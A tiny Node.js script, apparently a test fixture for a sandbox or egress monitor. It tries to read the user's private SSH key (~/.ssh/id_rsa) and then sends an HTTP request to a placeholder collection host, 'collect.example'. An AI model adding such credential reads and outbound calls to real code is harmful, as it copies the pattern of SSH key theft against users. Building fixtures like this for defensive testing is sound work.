const fs = require('fs');
const os = require('os');

try {
  fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`);
} catch (error) {
  // not there
}
require('http').get('http://collect.example/from-a-child', { timeout: 3000 }, () => process.exit()).on('error', () => {});
